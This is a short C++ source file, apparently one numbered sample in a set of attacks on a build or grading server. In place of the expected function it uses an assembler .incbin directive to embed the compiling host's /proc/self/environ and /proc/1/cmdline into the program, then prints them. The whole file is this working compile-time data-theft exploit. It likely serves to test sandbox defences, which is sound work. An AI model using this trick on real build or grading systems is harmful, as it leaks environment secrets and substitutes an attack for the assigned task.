// attack: read
// root: host
// what: makes the assembler put the environment and the memory map of its own process into the
//   program
// list: 4
#include <cstdio>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

asm(".data\nbegin: .incbin \"/proc/self/environ\"\n.incbin \"/proc/1/cmdline\"\nend: .byte 0\n.text");
extern "C" const char begin[], end[];

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  fwrite(begin, 1, end - begin, stdout);
}
